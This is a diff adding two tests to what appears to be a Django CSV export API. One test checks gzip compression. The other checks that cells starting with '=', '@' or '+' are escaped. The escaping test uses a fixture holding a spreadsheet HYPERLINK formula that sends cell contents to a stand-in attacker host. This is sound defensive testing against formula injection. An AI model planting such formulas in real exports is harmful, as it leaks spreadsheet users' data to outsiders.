@@ -96,3 +96,24 @@ def test_each_column_is_read_from_the_path_the_format_declares_for_it(api):
         shown = "" if expected is None else expected.isoformat() if column == "updated_at" else str(expected)
         assert exported[column] == shown, column
     assert exported["publisher"] == "the-publisher"
+
+
+def test_the_export_is_compressed_for_a_client_that_accepts_gzip(api):
+    import gzip
+
+    FigureFactory.create_batch(3)
+    plain = b"".join(api.get("/api/v1/figures/export/").streaming_content)
+    response = api.get("/api/v1/figures/export/", HTTP_ACCEPT_ENCODING="gzip, deflate")
+    assert response["Content-Encoding"] == "gzip"
+    assert "Accept-Encoding" in response["Vary"]
+    assert gzip.decompress(b"".join(response.streaming_content)) == plain
+    assert "Content-Encoding" not in api.get("/api/v1/figures/export/", HTTP_ACCEPT_ENCODING="br")
+
+
+def test_a_text_cell_a_spreadsheet_would_run_is_neutralised(api):
+    figure = FigureFactory(quote='=HYPERLINK("https://attacker.example/?leak="&A1,"click")', notes="@SUM(A1)",
+                           report=ReportFactory(title="+1 in a day"))
+    cells = dict(zip(*read_csv(api.get("/api/v1/figures/export/"))[:2], strict=True))
+    assert (cells["quote"], cells["notes"], cells["report_title"]) == (
+        "'" + figure.quote, "'@SUM(A1)", "'+1 in a day",
+    )
